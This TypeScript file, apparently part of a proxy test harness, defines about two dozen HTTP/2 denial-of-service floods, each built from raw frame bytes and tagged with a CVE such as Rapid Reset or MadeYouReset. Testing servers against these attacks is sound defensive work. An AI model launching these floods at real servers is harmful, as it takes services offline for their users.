import { frame, FRAME, word } from '../../differential/peers/h2';
import { type Attack } from '../attack';
import { GET, literal, opened, request, reset, settingsFrame, streamId } from '../h2-bytes';

/** An attack of frames that cost their sender next to nothing. */
function flood(name: string, known: string, step: (i: number) => Buffer, settings: readonly number[] = []): Attack {
  return {
    name,
    known,
    target: 'h2',
    run: (attacker) =>
      attacker.flood(
        () => attacker.http2(...settings),
        (_client, i) => step(i),
      ),
  };
}

/** Makes the proxy reset each stream, one way or the other. */
function madeYouReset(how: string, cause: (id: number) => Buffer): Attack {
  return flood(`made-you-reset: ${how}`, 'CVE-2025-8671', (i) => Buffer.concat([request(streamId(i)), cause(streamId(i))]));
}

/** Frames in numbers. */
export const HTTP2_FLOODS: readonly Attack[] = [
  flood('rapid reset', 'CVE-2023-44487', (i) => Buffer.concat([request(streamId(i)), reset(streamId(i))])),
  madeYouReset('WINDOW_UPDATE by nothing', (id) => frame(FRAME.windowUpdate, 0, id, word(0))),
  madeYouReset('window too large', (id) => frame(FRAME.windowUpdate, 0, id, word(0x7fff_ffff))),
  madeYouReset('DATA after the end', (id) => frame(FRAME.data, 0, id, 'x')),
  madeYouReset('HEADERS after the end', (id) => request(id)),
  madeYouReset('PRIORITY of a wrong size', (id) => frame(FRAME.priority, 0, id, 'x')),
  madeYouReset('PRIORITY on itself', (id) => frame(FRAME.priority, 0, id, Buffer.concat([word(id), Buffer.from([16])]))),
  flood('made-you-reset: less content than announced', 'CVE-2025-8671', (i) =>
    Buffer.concat([
      opened(streamId(i), Buffer.concat([Buffer.from([0x83, 0x84, 0x86, 0x01, 0x01, 0x61]), literal('content-length', '9')])),
      frame(FRAME.data, 1, streamId(i), 'x'),
    ]),
  ),
  flood('made-you-reset: malformed heads', 'CVE-2025-8671', (i) => request(streamId(i), Buffer.concat([GET, literal('Upper', 'x')]))),
  flood('settings flood', 'CVE-2019-9515', (i) => settingsFrame([4, 65_535 + (i % 2)])),
  flood('ping flood', 'CVE-2019-9512', () => frame(FRAME.ping, 0, 0, '12345678')),
  {
    name: 'ping flood, answers unread',
    known: 'CVE-2019-9512',
    target: 'h2',
    run: (attacker) =>
      attacker.flood(
        async () => {
          const client = await attacker.http2();
          client.stall();
          return client;
        },
        () => frame(FRAME.ping, 0, 0, '12345678'),
      ),
  },
  flood('empty DATA', 'CVE-2019-9518', (i) => (i === 0 ? opened(1) : frame(FRAME.data, 0, 1))),
  flood('empty HEADERS', 'CVE-2019-9518', (i) => request(streamId(i), Buffer.alloc(0))),
  flood('empty CONTINUATION', 'CVE-2024-30255', (i) => (i === 0 ? frame(FRAME.headers, 1, 1, GET) : frame(FRAME.continuation, 0, 1))),
  flood('CONTINUATION', 'CVE-2024-27919', (i) =>
    i === 0 ? frame(FRAME.headers, 1, 1, GET) : frame(FRAME.continuation, 0, 1, literal('a', 'b'.repeat(100))),
  ),
  flood('priorities', 'CVE-2019-9513', (i) => frame(FRAME.priority, 0, 2 * (i % 50_000) + 3, Buffer.from([0, 0, 0, 1, 16]))),
  flood('window updates', 'CVE-2019-9511', (i) => (i % 100 === 0 ? frame(FRAME.settings, 0, 0) : frame(FRAME.windowUpdate, 0, 0, word(1)))),
  flood('resets of idle streams', 'CVE-2019-9514', (i) => reset(streamId(i))),
  {
    name: 'resets with a shut window',
    known: 'CVE-2019-9514',
    target: 'h2',
    run: (attacker) =>
      attacker.flood(
        async () => {
          const client = await attacker.http2(4, 0);
          client.stall();
          return client;
        },
        (_client, i) => Buffer.concat([request(streamId(i)), i < 20 ? Buffer.alloc(0) : reset(streamId(i - 20))]),
      ),
  },
  flood('unknown frames', '', () => frame(0xfe, 0, 1, 'x')),
  flood('DATA of one byte', 'CVE-2020-12603', (i) => (i === 0 ? opened(1) : frame(FRAME.data, 0, 1, 'x'))),
];
